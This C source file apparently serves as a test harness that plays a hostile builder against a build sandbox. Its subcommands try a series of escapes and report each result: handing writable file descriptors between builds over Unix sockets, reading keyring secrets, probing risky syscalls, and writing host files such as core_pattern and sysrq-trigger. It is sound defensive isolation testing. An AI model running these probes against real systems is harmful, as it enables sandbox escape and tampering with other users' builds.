/* What a hostile builder tries, one thing for each word.  It says what came of it.  */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

static long result (const char *what, long value)
{
  if (value < 0)
    printf ("%s: %s\n", what, strerror (errno));
  else
    printf ("%s: worked\n", what);
  return value;
}

static long add_key (const char *name, int keyring)
{
  return syscall (SYS_add_key, "user", name, "TOPSECRET", 9, keyring);
}

/* Starts a program as a login does that has a ticket in its session keyring.  */
static int with_ticket (char **program)
{
  if (syscall (SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "login") < 0
      || add_key ("ticket", KEY_SPEC_SESSION_KEYRING) < 0)
    return 99;
  execv (program[0], program);
  return 98;
}

/* Starts a program that can't copy mounts.  */
static int without_open_tree (char **program)
{
  struct sock_filter steps[] = {
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, nr)),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, SYS_open_tree, 0, 1),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog filter = { sizeof steps / sizeof *steps, steps };
  if (prctl (PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0
      || prctl (PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter) < 0)
    return 99;
  execv (program[0], program);
  return 98;
}

/* Shuts a user out of a file by an access control list, and leaves a note there.  */
static int access_list (const char *file, uint32_t uid)
{
  struct { uint16_t tag, permissions; uint32_t id; } entries[] = {
    { 0x01, 7, -1 }, { 0x02, 0, uid }, { 0x04, 5, -1 }, { 0x10, 5, -1 }, { 0x20, 5, -1 }
  };
  struct stat status;
  char list[4 + sizeof entries];
  uint32_t version = 2;
  memcpy (list, &version, 4);
  memcpy (list + 4, entries, sizeof entries);
  result ("access", setxattr (file, "system.posix_acl_access", list, sizeof list, 0));
  if (stat (file, &status) == 0 && S_ISDIR (status.st_mode))
    result ("default", setxattr (file, "system.posix_acl_default", list, sizeof list, 0));
  result ("note", setxattr (file, "user.note", "x", 1, 0));
  return 0;
}

static int connect_to (const char *name)
{
  struct sockaddr_un address = { .sun_family = AF_UNIX };
  int stream = socket (AF_UNIX, SOCK_STREAM, 0);
  strncpy (address.sun_path, name, sizeof address.sun_path - 1);
  if (result ("connect", connect (stream, (struct sockaddr *) &address, sizeof address)) < 0)
    exit (1);
  return stream;
}

/* A message with place for one descriptor.  */
struct message { struct msghdr header; struct iovec data; char byte, control[CMSG_SPACE (sizeof (int))]; };

static struct msghdr *empty (struct message *message)
{
  memset (message, 0, sizeof *message);
  message->data.iov_base = &message->byte;
  message->data.iov_len = 1;
  message->header.msg_iov = &message->data;
  message->header.msg_iovlen = 1;
  message->header.msg_control = message->control;
  message->header.msg_controllen = sizeof message->control;
  return &message->header;
}

static long send_descriptor (int stream, int descriptor)
{
  struct message message;
  struct cmsghdr *control = CMSG_FIRSTHDR (empty (&message));
  control->cmsg_level = SOL_SOCKET;
  control->cmsg_type = SCM_RIGHTS;
  control->cmsg_len = CMSG_LEN (sizeof (int));
  memcpy (CMSG_DATA (control), &descriptor, sizeof (int));
  return result ("send", sendmsg (stream, &message.header, 0));
}

/* Sends a descriptor, with which FILE can be written to, to whoever listens at NAME.  */
static int hand_out (const char *name, const char *file)
{
  int descriptor = open (file, O_RDWR);
  return send_descriptor (connect_to (name), descriptor) < 0;
}

/* Where a builder offers a descriptor, and others look for it; `@' stands for the byte 0, before the name of a
   socket that has none in the file system.  */
static const char *const places[] = { "@guix-attack", "/tmp/attack", "/dev/shm/attack", NULL };

static socklen_t address_of (const char *place, struct sockaddr_un *address)
{
  memset (address, 0, sizeof *address);
  address->sun_family = AF_UNIX;
  strncpy (address->sun_path, place, sizeof address->sun_path - 1);
  if (*place == '@')
    *address->sun_path = 0;
  return offsetof (struct sockaddr_un, sun_path) + strlen (place);
}

/* Offers a descriptor with which FILE can be written to in all places, by processes that do not end, and ends
   itself as soon as there is a file ENOUGH.  */
static int offer (const char *file, const char *enough)
{
  int descriptor = open (file, O_RDWR), n;
  struct sockaddr_un address;
  if (result ("open", descriptor) < 0)
    return 1;
  for (n = 0; places[n]; n++)
    {
      socklen_t length = address_of (places[n], &address);
      int listener = socket (AF_UNIX, SOCK_STREAM, 0);
      if (bind (listener, (struct sockaddr *) &address, length) < 0 || listen (listener, 9) < 0)
        return result (places[n], -1) < 0;
      if (*places[n] != '@')
        chmod (places[n], 0777);
      if (fork () == 0)
        {
          setsid ();
          for (;;)
            {
              int stream = accept (listener, NULL, NULL);
              send_descriptor (stream, descriptor);
              close (stream);
            }
        }
    }
  printf ("offered\n");
  while (access (enough, F_OK) < 0)
    usleep (20000);
  return 0;
}

/* Looks for what is offered, and writes to it.  */
static int ask (void)
{
  struct sockaddr_un address;
  struct message message;
  int n, descriptor;
  for (n = 0; places[n]; n++)
    {
      socklen_t length = address_of (places[n], &address);
      int stream = socket (AF_UNIX, SOCK_STREAM, 0);
      if (connect (stream, (struct sockaddr *) &address, length) < 0)
        continue;
      printf ("%s is there\n", places[n]);
      if (recvmsg (stream, empty (&message), 0) < 0 || !CMSG_FIRSTHDR (&message.header))
        continue;
      memcpy (&descriptor, CMSG_DATA (CMSG_FIRSTHDR (&message.header)), sizeof (int));
      result ("write", pwrite (descriptor, "evil", 4, 0));
    }
  printf ("asked everywhere\n");
  return 0;
}

/* Whoever listens at NAME sends a directory; sends back a connection to the socket that is there, and
   stays as long as it is wanted.  */
static int come_in (const char *name, int stays)
{
  struct message message;
  int stream = connect_to (name), directory;
  char path[64];
  if (result ("receive", recvmsg (stream, empty (&message), 0)) < 0 || !CMSG_FIRSTHDR (&message.header))
    return 1;
  memcpy (&directory, CMSG_DATA (CMSG_FIRSTHDR (&message.header)), sizeof (int));
  snprintf (path, sizeof path, "/proc/self/fd/%d/socket", directory);
  if (send_descriptor (stream, connect_to (path)) < 0)
    return 1;
  return stays && read (stream, path, 1) != 0;
}

int main (int count, char **words)
{
  const char *what = count > 1 ? words[1] : "";
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (strcmp (what, "with-ticket") == 0)
    return with_ticket (words + 2);
  if (strcmp (what, "without-open-tree") == 0)
    return without_open_tree (words + 2);
  if (strcmp (what, "access-list") == 0)
    return access_list (words[2], atoi (words[3]));
  if (strcmp (what, "hand-out") == 0)
    return hand_out (words[2], words[3]);
  if (strcmp (what, "offer") == 0)
    return offer (words[2], words[3]);
  if (strcmp (what, "ask") == 0)
    return ask ();
  if (strcmp (what, "make-socket") == 0)
    {
      struct sockaddr_un address = { .sun_family = AF_UNIX };
      strncpy (address.sun_path, words[2], sizeof address.sun_path - 1);
      return result ("bind", bind (socket (AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *) &address, sizeof address)) < 0;
    }
  if (strcmp (what, "come-in") == 0)
    return come_in (words[2], strcmp (words[3], "and-stay") == 0);
  if (strcmp (what, "keys") == 0)
    {
      char ticket[16] = "";
      long key = syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "ticket", 0);
      if (key > 0)
        syscall (SYS_keyctl, KEYCTL_READ, key, ticket, sizeof ticket - 1);
      printf ("ticket: %s\n", *ticket ? ticket : "none");
      key = syscall (SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "left", 0);
      printf ("left: %s\n", key > 0 ? "found" : "none");
      result ("add", add_key ("left", KEY_SPEC_USER_KEYRING));
      return 0;
    }
  if (strcmp (what, "calls") == 0)
    {
      char parameters[256] = "";
      result ("io_uring", syscall (425, 4, parameters));
      result ("userfaultfd", syscall (SYS_userfaultfd, O_CLOEXEC));
      result ("vsock", socket (AF_VSOCK, SOCK_STREAM, 0));
      result ("alg", socket (AF_ALG, SOCK_SEQPACKET, 0));
      result ("bpf", syscall (SYS_bpf, 0, parameters, sizeof parameters));
      result ("module", syscall (SYS_init_module, parameters, 0, ""));
      result ("unix", socket (AF_UNIX, SOCK_STREAM, 0));
      result ("inet", socket (AF_INET, SOCK_STREAM, 0));
      result ("netlink", socket (AF_NETLINK, SOCK_RAW, 0));
      return 0;
    }
  if (strcmp (what, "shared-memory") == 0)
    {
      key_t key = atoi (words[2]);
      printf ("memory: %s\n", shmget (key, 0, 0) < 0 ? "none" : "found");
      result ("make", shmget (key, 4096, IPC_CREAT | 0666));
      return 0;
    }
  if (strcmp (what, "host") == 0)
    {
      struct timespec times[2] = { { 0, 0 }, { 0, 0 } };
      result ("core_pattern", open ("/proc/sys/kernel/core_pattern", O_WRONLY));
      result ("drop_caches", open ("/proc/sys/vm/drop_caches", O_WRONLY));
      result ("hostname", open ("/proc/sys/kernel/hostname", O_WRONLY));
      result ("sysrq", open ("/proc/sysrq-trigger", O_WRONLY));
      result ("null", chmod ("/dev/null", 0666));
      result ("zero", utimensat (AT_FDCWD, "/dev/zero", times, 0));
      return 0;
    }
  fprintf (stderr, "no attack `%s'\n", what);
  return 64;
}
